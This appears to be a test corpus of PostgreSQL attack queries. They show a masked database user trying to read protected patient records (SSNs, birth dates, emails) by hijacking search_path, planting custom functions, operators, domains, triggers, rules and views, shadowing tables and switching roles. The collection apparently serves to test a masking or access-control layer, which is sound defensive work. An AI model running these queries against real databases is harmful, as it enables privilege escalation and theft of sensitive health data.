# A masked user with code of her own on the server. Each paragraph is one attack.

SELECT evil.steal()

SELECT evil.still()

SELECT * FROM evil.steal()

SELECT steal FROM evil.steal

SELECT evil.rowed(p) FROM clinic.patients p

SELECT p.rowed FROM clinic.patients p

SET search_path = evil, pg_catalog, clinic

SET search_path = evil, pg_catalog; SELECT lower('x')

SET search_path = evil, pg_catalog; SELECT "left"('x', 1), "right"('x', 1), btrim('x')

SET search_path = evil, pg_catalog; SELECT now()

SET search_path = evil, pg_catalog; SELECT concat('a', 'b')

SET search_path = evil, pg_catalog; SELECT coalesce('a', 'b'), count('x')

SET search_path = evil, pg_catalog; SELECT 'a'::text || 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text = 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text IN ('b', 'c')

SET search_path = evil, pg_catalog; SELECT 'a'::text NOT IN ('b', 'c')

SET search_path = evil, pg_catalog; SELECT 'a'::text IN (SELECT 'b')

SET search_path = evil, pg_catalog; SELECT 'a'::text = ANY (ARRAY['b'])

SET search_path = evil, pg_catalog; SELECT 'a'::text = ALL (SELECT 'a'::text)

SET search_path = evil, pg_catalog; SELECT 'a'::text LIKE 'b', 'a' NOT LIKE 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text ILIKE 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text SIMILAR TO 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text BETWEEN 'a' AND 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text BETWEEN SYMMETRIC 'a' AND 'b'

SET search_path = evil, pg_catalog; SELECT NULLIF('a'::text, 'b')

SET search_path = evil, pg_catalog; SELECT CASE 'a'::text WHEN 'b' THEN 1 END

SET search_path = evil, pg_catalog; SELECT 'a'::text IS DISTINCT FROM 'b'

SET search_path = evil, pg_catalog; SELECT 'a'::text IS NOT DISTINCT FROM 'b'

SET search_path = evil, pg_catalog; SELECT ('a'::text, 1) = ('a'::text, 2)

SET search_path = evil, pg_catalog; SELECT ('a'::text, 1) < ('a'::text, 2)

SET search_path = evil, pg_catalog; SELECT ('a'::text, 1) IN (SELECT 'b'::text, 2)

SET search_path = evil, pg_catalog; SELECT - 1

SET search_path = evil, pg_catalog; SELECT - (1), 1 + 1

SET search_path = evil, pg_catalog; SELECT x.t FROM evil.tab x JOIN evil.tab y USING (t)

SET search_path = evil, pg_catalog; SELECT t FROM evil.tab x NATURAL JOIN evil.tab y

SET search_path = evil, pg_catalog; SELECT * FROM evil.tab x JOIN evil.tab y USING (c)

SET search_path = evil, pg_catalog; SELECT max(t) FROM evil.tab

SET search_path = evil, pg_catalog; SELECT json_scalar(1)

SET search_path = evil, pg_catalog; SELECT t FROM tab ORDER BY t USING OPERATOR(evil.<)

SET search_path = evil, pg_catalog; SELECT ssn FROM clinic.patients WHERE ssn = 'x'

SET search_path = evil, pg_catalog; SELECT ssn, dob, zip FROM clinic.patients

SET search_path = evil, pg_catalog; SELECT date_trunc('year', dob::timestamp) FROM clinic.patients

SET search_path = evil, pg_catalog, clinic; SELECT ssn FROM patients; SET search_path = clinic; SELECT ssn FROM patients

SET search_path = evil, pg_catalog; MERGE INTO evil.plain p USING evil.tab t ON p.b = t.t WHEN MATCHED THEN UPDATE SET b = 'x' RETURNING *

SET search_path = evil, pg_catalog; UPDATE evil.plain SET b = b || 'x' WHERE a = 1 RETURNING b

SET search_path = evil, pg_catalog; INSERT INTO evil.plain VALUES (7, 'a'::text || 'b') RETURNING b

SET search_path = evil, pg_catalog; VALUES ('a'::text || 'b')

SET search_path = evil, pg_catalog; SELECT 1 LIMIT length('a'::text || 'b')

SET search_path = evil, pg_catalog; SELECT x FROM generate_series(1, 2) x GROUP BY x HAVING 'a'::text = 'b'

SET search_path = evil, pg_catalog; SELECT count(*) FILTER (WHERE 'a'::text = 'b')

SET search_path = evil, pg_catalog; SELECT rank() OVER (ORDER BY 'a'::text || 'b')

SET search_path = evil, pg_catalog; SELECT ARRAY['a'::text || 'b'], ROW('a'::text || 'b')

SET search_path = evil, pg_catalog; EXPLAIN (ANALYZE, VERBOSE) SELECT 'a'::text || 'b'

SET search_path = evil, pg_catalog; EXPLAIN (VERBOSE) SELECT 'a'::text || 'b'

SET search_path = evil, pg_catalog; DECLARE c CURSOR WITH HOLD FOR SELECT 'a'::text || 'b'; FETCH ALL FROM c

SET search_path = evil, pg_catalog; PREPARE q AS SELECT 'a'::text || 'b'; EXECUTE q

SET search_path = evil, pg_catalog; COPY (SELECT 'a'::text || 'b') TO STDOUT

SET search_path = evil, pg_catalog; CREATE TEMP TABLE made AS SELECT 'a'::text || 'b' AS x; SELECT * FROM made

SET search_path = evil, pg_catalog; CREATE TEMP VIEW seen AS SELECT 'a'::text || 'b' AS x; SELECT * FROM seen

SET search_path = evil, pg_catalog; CREATE TEMP TABLE gen (a text, b text GENERATED ALWAYS AS (a || 'b') STORED); INSERT INTO gen VALUES ('x') RETURNING *

SET search_path = evil, pg_catalog; CREATE TEMP TABLE def (a text DEFAULT 'a'::text || 'b'); INSERT INTO def DEFAULT VALUES RETURNING *

SET search_path = evil, pg_catalog; CREATE TEMP TABLE chk (a text CHECK (a = 'b')); INSERT INTO chk VALUES ('b') RETURNING *

SET LOCAL search_path = evil, pg_catalog; SELECT 'a'::text || 'b'

BEGIN; SET LOCAL search_path = evil, pg_catalog; SELECT 'a'::text || 'b'; COMMIT

BEGIN; SET search_path = evil, pg_catalog; SAVEPOINT a; SET search_path = public; ROLLBACK TO a; SELECT 'a'::text || 'b'; COMMIT

SET search_path TO "evil" , pg_catalog; SELECT lower('x'::text)

SELECT set_config('search_path', 'evil, pg_catalog', false); SELECT lower('x'::text)

UPDATE pg_settings SET setting = 'evil, pg_catalog' WHERE name = 'search_path'; SELECT lower('x'::text)

RESET search_path

SELECT 'a' OPERATOR(evil.||) 'b'

SELECT 'a' OPERATOR(evil.###) 'b'

SELECT 'a' OPERATOR(evil.=) 'b'

SELECT OPERATOR(evil.-) 1

SELECT 'a' OPERATOR(evil.=) ANY (ARRAY['b'])

SELECT 'a' OPERATOR("evil".||) 'b'

SELECT t FROM evil.tab ORDER BY t USING OPERATOR(evil.<)

SELECT ssn OPERATOR(evil.||) ssn FROM clinic.patients

SELECT 'x'::evil.dom

SELECT CAST('x' AS evil.dom)

SELECT evil.dom 'x'

SELECT evil.dom('x')

SELECT 'x'::evil.dom_of_dom

SELECT NULL::evil.dom

SELECT '{x}'::evil.dom[]

SELECT ARRAY['x']::evil.dom[]

SELECT '(1,x)'::evil.comp

SELECT ROW(1, 'x')::evil.comp

SELECT (1, 'x')::evil.comp

SELECT ssn::evil.dom FROM clinic.patients

PREPARE q (evil.dom) AS SELECT $1; EXECUTE q('x')

PREPARE q (evil.comp) AS SELECT $1; EXECUTE q('(1,x)')

SELECT * FROM jsonb_to_record('{"s": "x"}') AS r(s evil.dom)

SELECT * FROM json_to_recordset('[{"s": "x"}]') AS r(s evil.dom)

SELECT jsonb_populate_record(NULL::evil.comp, '{"b": "x"}')

SELECT * FROM jsonb_populate_recordset(NULL::evil.comp, '[{"b": "x"}]')

SELECT * FROM jsonb_populate_record(NULL::evil.with_domain, '{"b": "x"}')

SELECT * FROM json_table('{"s": "x"}', '$' COLUMNS (s evil.dom PATH '$.s'))

SELECT json_value('{"s": "x"}', '$.s' RETURNING evil.dom)

SELECT json_query('{"s": {"b": "x"}}', '$.s' RETURNING evil.comp)

SELECT * FROM xmltable('/r' PASSING '<r>x</r>'::xml COLUMNS s evil.dom PATH '.')

SELECT * FROM ROWS FROM (jsonb_to_record('{"s": "x"}') AS (s evil.dom))

CREATE TEMP TABLE d (a evil.dom); INSERT INTO d VALUES ('x')

CREATE TEMP TABLE d2 (a text); INSERT INTO d2 VALUES ('x'); ALTER TABLE d2 ALTER a TYPE evil.dom

CREATE TEMP TABLE d3 (LIKE evil.checked INCLUDING ALL); INSERT INTO d3 VALUES (1, 'x')

CREATE TEMP TABLE d4 (LIKE evil.defaulted INCLUDING DEFAULTS); INSERT INTO d4 (a) VALUES (1) RETURNING *

CREATE TEMP TABLE d5 (LIKE evil.generated INCLUDING GENERATED); INSERT INTO d5 (a) VALUES (1) RETURNING *

CREATE TEMP TABLE d6 () INHERITS (evil.defaulted); INSERT INTO d6 (a) VALUES (1) RETURNING *

CREATE TEMP TABLE d7 () INHERITS (evil.heir); INSERT INTO d7 (a) VALUES (1) RETURNING *

CREATE TEMP TABLE d8 OF evil.comp; INSERT INTO d8 VALUES (1, 'x')

CREATE TEMP TABLE d9 (a text DEFAULT evil.steal()); INSERT INTO d9 DEFAULT VALUES RETURNING *

CREATE TEMP TABLE d10 (a text CHECK (evil.check_dom(a))); INSERT INTO d10 VALUES ('x')

CREATE TEMP TABLE d11 (a int, b text GENERATED ALWAYS AS (evil.gen(a)) STORED); INSERT INTO d11 VALUES (1) RETURNING *

CREATE TEMP TABLE d12 (a int); CREATE INDEX ON d12 ((evil.gen(a))); INSERT INTO d12 VALUES (1)

CREATE TEMP TABLE d13 (a int, b text); CREATE TRIGGER t BEFORE INSERT ON d13 FOR EACH ROW EXECUTE FUNCTION evil.trig(); INSERT INTO d13 VALUES (1) RETURNING *

CREATE TEMP TABLE d14 (a int); CREATE POLICY p ON d14 USING (evil.loud(a)); ALTER TABLE d14 ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY; SELECT * FROM d14

CREATE TEMP TABLE d15 (a int, b text) PARTITION BY RANGE ((evil.gen(a))); INSERT INTO d15 VALUES (1)

CREATE TEMP TABLE d16 (a int); ALTER TABLE d16 ADD COLUMN b text DEFAULT evil.steal(); SELECT * FROM d16

CREATE TEMP TABLE d17 (a text); INSERT INTO d17 VALUES ('x'); ALTER TABLE d17 ALTER a TYPE text USING evil.steal(); SELECT * FROM d17

CREATE TEMP TABLE d18 (a int); CREATE RULE r AS ON INSERT TO d18 DO ALSO SELECT evil.steal(); INSERT INTO d18 VALUES (1)

CREATE TEMP TABLE d19 (a evil.color); INSERT INTO d19 VALUES ('red'); SELECT to_json(a), a || '' FROM d19

CREATE TEMP TABLE d20 (a evil.defaulting); INSERT INTO d20 DEFAULT VALUES RETURNING *

CREATE TEMP TABLE d21 (a text, EXCLUDE (a WITH OPERATOR(evil.=))); INSERT INTO d21 VALUES ('x')

CREATE TEMP TABLE d22 (a int); CREATE STATISTICS ON (evil.gen(a)), a FROM d22; INSERT INTO d22 VALUES (1); ANALYZE d22

SELECT 'red'::evil.color::text

SELECT 'red'::evil.color || ''

SELECT length('red'::evil.color)

SELECT upper(c) FROM evil.tab

SELECT c || t FROM evil.tab

SELECT c::text FROM evil.tab

SELECT text(c) FROM evil.tab

SELECT c::int FROM evil.tab

SELECT c::varchar FROM evil.tab

SELECT to_json(c) FROM evil.tab

SELECT to_jsonb(c) FROM evil.tab

SELECT row_to_json(w) FROM evil.tab w

SELECT to_jsonb(w) FROM evil.tab w

SELECT json_agg(w) FROM evil.tab w

SELECT json_agg(c) FROM evil.tab

SELECT json_build_object('a', c) FROM evil.tab

SELECT json_build_array(c) FROM evil.tab

SELECT json_object_agg(a, c) FROM evil.tab

SELECT array_to_json(ARRAY[c]) FROM evil.tab

SELECT to_json(ARRAY[ROW(c)]) FROM evil.tab

SELECT JSON_OBJECT('a': c), JSON_ARRAY(c) FROM evil.tab

SELECT JSON_ARRAYAGG(c), JSON_OBJECTAGG(a: c) FROM evil.tab

SELECT json(c) FROM evil.tab

SELECT row_to_json(x) FROM (SELECT c AS q FROM evil.tab) x

SELECT to_json(x.q) FROM (SELECT c AS q FROM evil.tab) x

SELECT to_json((SELECT c FROM evil.tab LIMIT 1))

SELECT to_json(min(c)) FROM evil.tab

SELECT to_json(coalesce(c, c)) FROM evil.tab

SELECT to_json((w).c) FROM evil.tab w

SELECT to_json(unnest(ARRAY[c])) FROM evil.tab

SELECT to_json(enum_first(c)) FROM evil.tab

SELECT to_json(enum_range(NULL::evil.color))

SELECT to_json(('red'::evil.color))

WITH x AS (SELECT c FROM evil.tab) SELECT to_json(c) FROM x

SELECT c FROM evil.tab UNION ALL SELECT 'x'::text

SELECT CASE WHEN true THEN c ELSE 'x'::text END FROM evil.tab

SELECT coalesce(c, 'x'::text) FROM evil.tab

SELECT greatest(c, 'x'::text) FROM evil.tab

SELECT ARRAY[c, 'x'::text] FROM evil.tab

SELECT c = c FROM evil.tab

SET search_path = evil; SELECT c = c FROM evil.tab

SET search_path = public, evil; SELECT * FROM evil.tab WHERE c IN ('red')

SET search_path = public, evil; SELECT NULLIF(c, 'red') FROM evil.tab

SET search_path = public, evil; SELECT CASE c WHEN 'red' THEN 1 END FROM evil.tab

SET search_path = public, evil; SELECT * FROM evil.tab a JOIN evil.tab b USING (c)

SET search_path = public, evil; SELECT * FROM evil.tab a NATURAL JOIN evil.tab b

SET search_path = public, evil; SELECT a.c IS DISTINCT FROM a.c FROM evil.tab a

SET search_path = public, evil; SELECT (a.c, 1) = (a.c, 1) FROM evil.tab a

SELECT xmlelement(name a, c), xmlforest(c) FROM evil.tab

SELECT string_agg(c, ',') FROM evil.tab

SELECT format('%s', c), concat(c) FROM evil.tab

INSERT INTO evil.plain (b) SELECT c FROM evil.tab RETURNING b

INSERT INTO evil.plain (a) SELECT c FROM evil.tab RETURNING a

UPDATE evil.plain SET b = 'red'::evil.color RETURNING b

SELECT '[a,b)'::evil.span, evil.span('a', 'b')

SELECT evil.collect(t) FROM evil.tab

SELECT evil.collect(t) OVER () FROM evil.tab

SELECT evil.max(t) FROM evil.tab

CALL evil.proc()

DO $$ BEGIN PERFORM evil.steal(); END $$

SELECT p.echo FROM (SELECT 'x'::text) p

INSERT INTO evil.defaulted (a) VALUES (1) RETURNING *

INSERT INTO evil.defaulted DEFAULT VALUES RETURNING *

INSERT INTO evil.defaulted VALUES (1, DEFAULT) RETURNING *

UPDATE evil.defaulted SET b = DEFAULT RETURNING *

INSERT INTO evil.generated (a) VALUES (1) RETURNING *

UPDATE evil.generated SET a = 2 RETURNING *

INSERT INTO evil.checked VALUES (1, 'x')

INSERT INTO evil.with_domain VALUES (1, 'x')

INSERT INTO evil.with_default_domain (a) VALUES (1) RETURNING *

COPY evil.with_domain FROM STDIN

COPY evil.checked FROM STDIN

COPY evil.defaulted (a) FROM STDIN

COPY evil.triggered FROM STDIN

INSERT INTO evil.indexed VALUES (1)

INSERT INTO evil.partial VALUES (1)

INSERT INTO evil.triggered VALUES (1, 'x') RETURNING *

UPDATE evil.triggered SET b = 'x' RETURNING *

WITH x AS (INSERT INTO evil.triggered VALUES (1, 'x') RETURNING *) SELECT * FROM x

MERGE INTO evil.triggered t USING (SELECT 1 AS a) s ON false WHEN NOT MATCHED THEN INSERT VALUES (1, 'x') RETURNING t.*

INSERT INTO evil.triggered_stmt VALUES (1, 'x')

DELETE FROM evil.triggered_stmt WHERE a = 1

TRUNCATE evil.triggered_stmt

SELECT * FROM evil.triggered

SELECT * FROM evil.loot

INSERT INTO evil.ruled VALUES (1, 'x')

UPDATE evil.ruled SET b = 'x' WHERE a = 1 RETURNING a, b

SELECT * FROM evil.loot, evil.plain

SELECT * FROM evil.secured

SELECT count(*) FROM evil.secured

INSERT INTO evil.secured VALUES (2, 'y')

TABLE evil.secured

UPDATE evil.secured SET b = 'y' WHERE a = 1

COPY evil.secured TO STDOUT

EXPLAIN (ANALYZE, VERBOSE) SELECT * FROM evil.secured

INSERT INTO evil.parted VALUES (1, 'x') RETURNING *

INSERT INTO evil.parted_default VALUES (1, 'x') RETURNING *

SELECT * FROM evil.parted WHERE evil.gen(a) = 'x'

SELECT * FROM evil.parent

INSERT INTO evil.heir VALUES (1, 'x')

UPDATE evil.parent SET b = 'x' WHERE a = 1

INSERT INTO evil.list VALUES (1, 'x') RETURNING *

UPDATE evil.list SET a = 1 WHERE a = 1 RETURNING *

UPDATE evil.cascading SET id = 2 WHERE id = 1

DELETE FROM evil.cascading WHERE id = 1

SELECT * FROM evil.cascaded

SELECT v FROM evil.v_steal

SELECT v FROM evil.v_cat

SELECT v FROM evil.v_cast

SELECT v FROM evil.v_implicit

SELECT v FROM evil.v_dom

SELECT v FROM evil.v_json

SELECT v FROM evil.v_agg

SELECT v FROM evil.v_where

SELECT a FROM evil.v_order

SELECT a FROM evil.v_limit

SELECT * FROM evil.v_from

SELECT v FROM evil.v_window

SELECT count(*) FROM evil.v_where

SELECT 1 FROM evil.v_steal

COPY evil.v_write FROM STDIN

INSERT INTO evil.v_write VALUES (5, 'x') RETURNING *

INSERT INTO evil.v_check VALUES (5, 'x') RETURNING *

INSERT INTO evil.v_default (a) VALUES (5) RETURNING *

UPDATE evil.v_check SET b = 'y' WHERE a = 1 RETURNING *

REFRESH MATERIALIZED VIEW evil.mv

CREATE TABLE evil.taken AS SELECT * FROM clinic.patients

CREATE VIEW evil.taken AS SELECT ssn FROM clinic.patients

CREATE FUNCTION evil.taken() RETURNS SETOF clinic.patients LANGUAGE sql AS 'TABLE clinic.patients'

CREATE OR REPLACE VIEW evil.v_steal AS SELECT ssn AS v FROM clinic.patients

CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE sql AS 'SELECT max(ssn) FROM clinic.patients'; SELECT pg_temp.f()

CREATE TEMP TABLE pg_class AS SELECT 1 AS oid; SELECT * FROM pg_class LIMIT 1

CREATE TEMP TABLE patients (ssn text); SET search_path = clinic; SELECT ssn FROM patients

CREATE TEMP TABLE patients AS SELECT 'mine'::text AS ssn; DROP TABLE patients; SET search_path = clinic; SELECT ssn FROM patients LIMIT 1

CREATE TEMP VIEW patients AS SELECT * FROM clinic.patients; SELECT ssn, dob FROM patients

ALTER TABLE evil.patients RENAME TO p2

ALTER TABLE evil.patients INHERIT clinic.patients

ALTER TABLE evil.patients SET SCHEMA public

ALTER TABLE evil.patients ADD FOREIGN KEY (ssn) REFERENCES clinic.patients (mrn)

SELECT ssn FROM evil.patients

INSERT INTO evil.patients (id, ssn, name) SELECT id, ssn, last_name FROM clinic.patients RETURNING *

INSERT INTO evil.plain SELECT id, email FROM clinic.patients RETURNING *

SELECT setval('evil.seq', 5)

SELECT to_tsvector('evil.conf', 'x'), ts_lexize('simple', 'x')

SELECT evil.json_scalar(1)

SELECT x.* FROM left_by_dba.definer() x

SELECT left_by_dba.definer_one('')

SELECT has_function_privilege('evil.steal()', 'execute')

SELECT 'evil.steal'::regproc, 'evil.steal()'::regprocedure

LISTEN c; INSERT INTO left_by_dba.notifying VALUES (1, 'x')

INSERT INTO evil.probe VALUES ('x') ON CONFLICT DO NOTHING

SELECT * FROM evil.probe

SELECT brin_summarize_new_values('evil.indexed')

REINDEX TABLE evil.indexed

CLUSTER evil.indexed

ANALYZE evil.indexed

VACUUM evil.indexed

CREATE TRIGGER t BEFORE INSERT ON evil.plain FOR EACH ROW EXECUTE FUNCTION evil.trig()

COMMENT ON TABLE evil.plain IS 'x'

GRANT EXECUTE ON FUNCTION evil.steal() TO PUBLIC

ALTER ROLE mallory SET search_path = evil, pg_catalog

SET ROLE analysts; SELECT ssn FROM clinic.patients LIMIT 2; SELECT evil.steal()

SET SESSION AUTHORIZATION DEFAULT; SELECT ssn FROM clinic.patients LIMIT 2

SELECT pg_input_is_valid('x', 'evil.dom')

SELECT * FROM pg_input_error_info('x', 'evil.dom')

SELECT domain_in('x', 'evil.dom'::regtype::oid, -1)

SELECT array_in('{x}', 'evil.dom'::regtype::oid, -1)

SELECT record_in('(1,x)', 'evil.comp'::regtype::oid, -1)

SELECT range_in('[a,b)', 'evil.span'::regtype::oid, -1)

SELECT w FROM evil.with_domain w

SELECT jsonb_populate_record(w, '{"b": "x"}') FROM (SELECT 1) o LEFT JOIN evil.with_domain w ON true

SELECT json_populate_recordset(NULL::evil.comp[], '[]')

# Own code behind every clause, and views that run it

SELECT p FROM clinic.patients p WHERE p::text OPERATOR(evil.=) 'x'

SELECT * FROM clinic.patients p JOIN evil.patients e ON p.ssn OPERATOR(evil.=) e.ssn

SELECT string_agg(ssn, ',' ORDER BY ssn USING OPERATOR(evil.<)) FROM clinic.patients

SELECT ssn FROM clinic.patients ORDER BY ssn USING OPERATOR(evil.<)

SELECT DISTINCT evil.echo(ssn) FROM clinic.patients

SELECT x FROM clinic.patients p, LATERAL evil.echo(p.ssn) x

SELECT (p).rowed, p.rowed FROM clinic.patients p

SELECT rowed FROM clinic.patients

SET search_path = clinic, evil; SELECT p.rowed, rowed(p) FROM patients p

SET search_path = clinic, evil; SELECT steal FROM patients p, steal() AS steal

SELECT evil.tab.neg FROM evil.tab

SELECT * FROM evil.collect('x') x

CREATE TEMP TABLE x (a text DEFAULT evil.echo('a')); INSERT INTO x DEFAULT VALUES

CREATE TEMP TABLE x AS SELECT evil.steal() AS a

CREATE TEMP VIEW x AS SELECT evil.steal() AS a; SELECT * FROM x

PREPARE q AS SELECT evil.steal(); EXECUTE q

DECLARE c CURSOR WITH HOLD FOR SELECT evil.steal(); FETCH c

EXPLAIN ANALYZE SELECT evil.steal()

EXPLAIN SELECT evil.still()

EXPLAIN (VERBOSE) SELECT evil.still() FROM evil.tab

EXPLAIN SELECT * FROM evil.tab WHERE t = evil.still()

EXPLAIN SELECT * FROM evil.v_steal

EXPLAIN VERBOSE INSERT INTO evil.generated VALUES (1)

COPY (SELECT evil.steal()) TO STDOUT

COPY evil.v_steal TO STDOUT

COPY (TABLE evil.v_steal) TO STDOUT

VALUES (evil.steal())

SELECT ARRAY(SELECT evil.steal()), ROW(evil.steal()), (SELECT evil.steal())

SELECT 1 ORDER BY evil.steal()

SELECT 1 LIMIT length(evil.steal())

SELECT 1 FROM clinic.providers TABLESAMPLE bernoulli (length(evil.steal()))

SELECT 1 WHERE evil.fail('a', 'b')

SELECT count(*) FILTER (WHERE evil.fail('a', 'b'))

SELECT CASE WHEN false THEN evil.still() END

SELECT sum(1) OVER (ORDER BY evil.steal()), sum(1) OVER (ROWS length(evil.still()) PRECEDING)

SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a text PATH '$.a' DEFAULT evil.still() ON EMPTY)) x

SELECT * FROM JSON_TABLE(evil.steal()::jsonb, '$' PASSING evil.steal() AS x COLUMNS (a text PATH '$.a')) x

SELECT JSON_VALUE('{}', '$.a' DEFAULT evil.still() ON EMPTY)

SELECT JSON_VALUE('{}', '$.a' PASSING evil.still() AS x)

SELECT JSON_VALUE('"x"', '$' RETURNING evil.dom), JSON_QUERY('"x"', '$' RETURNING evil.dom OMIT QUOTES)

SELECT JSON_SERIALIZE(evil.steal() RETURNING text), JSON_SCALAR(evil.steal()), JSON(evil.steal())

SELECT * FROM XMLTABLE('/a' PASSING evil.steal()::xml COLUMNS a text PATH '/' DEFAULT evil.still()) x

SELECT XMLELEMENT(name a, evil.steal())

INSERT INTO evil.plain VALUES (1, 'x') ON CONFLICT DO NOTHING RETURNING evil.steal()

INSERT INTO evil.cascading VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2 WHERE evil.fail('a', 'b')

UPDATE evil.plain SET b = evil.steal() WHERE a = 1 RETURNING b

DELETE FROM evil.plain WHERE evil.fail(b, 'x')

MERGE INTO evil.plain p USING evil.tab t ON p.a = t.a WHEN MATCHED AND evil.fail('a', 'b') THEN DELETE WHEN NOT MATCHED BY SOURCE THEN UPDATE SET b = evil.steal() RETURNING merge_action(), p.*

WITH RECURSIVE r AS (SELECT evil.steal() AS x UNION ALL SELECT x FROM r) SELECT * FROM r LIMIT 1

SELECT evil.dom_of_dom('x'), evil.comp(1, 'x')

SELECT '(1,x)'::evil.tab, ROW(1, 'red', 'x')::evil.tab, (ROW(1,'red','x')::evil.tab).c::text

SELECT t.c::text FROM (SELECT (tab).* FROM evil.tab) t

SELECT min(c), array_agg(c)::text FROM evil.tab

SELECT x::text FROM unnest(enum_range('red'::evil.color)) x

SELECT concat(c, c), c IN ('red'), c = ANY ('{red}') FROM evil.tab

SELECT * FROM evil.tab ORDER BY c

SELECT DISTINCT c FROM evil.tab

SELECT c FROM evil.tab UNION SELECT c FROM evil.tab

SELECT c, count(*) FROM evil.tab GROUP BY c

SELECT rank() OVER (PARTITION BY c ORDER BY c) FROM evil.tab

SELECT range_merge('[a,b)'::evil.span, '[b,c)'), '[a,b)'::evil.span @> 'a'::text, evil.span('a','b') && '[a,c)'

SELECT '{[a,b)}'::evil.spanmultirange, evil.spanmultirange(evil.span('a','b'))

CREATE TEMP TABLE sp (a evil.span); CREATE INDEX ON sp USING gist (a); INSERT INTO sp VALUES ('[a,b)'), ('[b,c)')

CREATE OR REPLACE FUNCTION evil.lower(text) RETURNS text LANGUAGE sql AS 'SELECT 1'

ALTER FUNCTION evil.steal() SECURITY DEFINER

ALTER FUNCTION evil.steal() SET search_path = evil

ALTER OPERATOR evil.|| (text, text) OWNER TO analyst

ALTER DOMAIN evil.dom ADD CHECK (evil.check_dom(VALUE))

ALTER TYPE evil.comp ADD ATTRIBUTE c evil.dom

CREATE CAST (text AS evil.color) WITH INOUT AS IMPLICIT

CREATE AGGREGATE evil.agg2(text) (SFUNC = evil.step, STYPE = text)

CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION evil.trig()

CREATE FUNCTION evil.new() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT max(ssn) FROM clinic.patients; END

CREATE OPERATOR CLASS evil.ops DEFAULT FOR TYPE text USING btree AS OPERATOR 1 evil.<

CREATE CONVERSION evil.conv FOR 'UTF8' TO 'LATIN1' FROM utf8_to_iso8859_1

CREATE COLLATION evil.coll FROM "C"

CREATE TEXT SEARCH DICTIONARY evil.dict (TEMPLATE = simple, StopWords = 'x')

CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw; CREATE USER MAPPING FOR mallory SERVER s

CREATE FOREIGN TABLE evil.ft (a text) SERVER s

CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p

CREATE TABLE evil.part PARTITION OF clinic.lab_results FOR VALUES FROM ('2030-01-01') TO ('2031-01-01')

CREATE TABLE evil.inh () INHERITS (clinic.patients)

CREATE TEMP TABLE inh () INHERITS (clinic.patients); SELECT * FROM inh

CREATE TEMP TABLE lk (LIKE clinic.patients INCLUDING ALL); INSERT INTO lk (mrn) VALUES ('x'); SELECT * FROM lk

ALTER TABLE evil.plain ADD COLUMN z text DEFAULT evil.steal()

ALTER TABLE evil.plain ADD CHECK (evil.check_dom(b))

ALTER TABLE evil.plain ALTER b TYPE text USING evil.steal()

ALTER TABLE evil.plain ENABLE ROW LEVEL SECURITY

CREATE VIEW evil.nv WITH (security_invoker) AS SELECT * FROM clinic.patients

ALTER VIEW evil.v_default OWNER TO analyst

COMMENT ON FUNCTION evil.steal() IS 'x'

GRANT SELECT ON evil.loot TO PUBLIC

ALTER DEFAULT PRIVILEGES FOR ROLE mallory GRANT SELECT ON TABLES TO PUBLIC

SET ROLE dbguard

RESET SESSION AUTHORIZATION; SELECT ssn FROM clinic.patients

SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY; SELECT evil.steal()

SELECT current_setting('evil.x', true), set_config('evil.x', evil.steal(), false)

SET evil.x = 'y'; SHOW evil.x

SELECT one FROM evil.v_vol

SELECT * FROM evil.v_vol2

SELECT * FROM evil.v_vol3

SELECT count(*) FROM evil.v_vol

EXPLAIN VERBOSE SELECT one FROM evil.v_still

EXPLAIN VERBOSE SELECT * FROM evil.v_still2

EXPLAIN ANALYZE VERBOSE SELECT a FROM evil.v_still3

SELECT * FROM evil.v_still2

SELECT count(*) FROM evil.loot

CREATE TEMP TABLE pp (a text) PARTITION BY LIST (a); CREATE TEMP TABLE pc PARTITION OF pp FOR VALUES IN (evil.still()); SELECT pg_get_expr(relpartbound, oid) FROM pg_class WHERE relname = 'pc'

CREATE TEMP TABLE pp (a text) PARTITION BY LIST (a); CREATE TEMP TABLE pc (a text); ALTER TABLE pp ATTACH PARTITION pc FOR VALUES IN (evil.still()); SELECT pg_get_expr(relpartbound, oid) FROM pg_class WHERE relname = 'pc'

CREATE TEMP TABLE pk (a int, b text) PARTITION BY HASH (evil.gen(a)); INSERT INTO pk VALUES (1)

CREATE TEMP TABLE od (a text DEFAULT 'a' OPERATOR(evil.||) 'b'); INSERT INTO od DEFAULT VALUES RETURNING *

CREATE TEMP TABLE og (a text, b text GENERATED ALWAYS AS (a OPERATOR(evil.||) 'x') STORED); INSERT INTO og VALUES ('x') RETURNING *

CREATE TEMP TABLE oc (a text CHECK (a OPERATOR(evil.=) 'b')); INSERT INTO oc VALUES ('x')
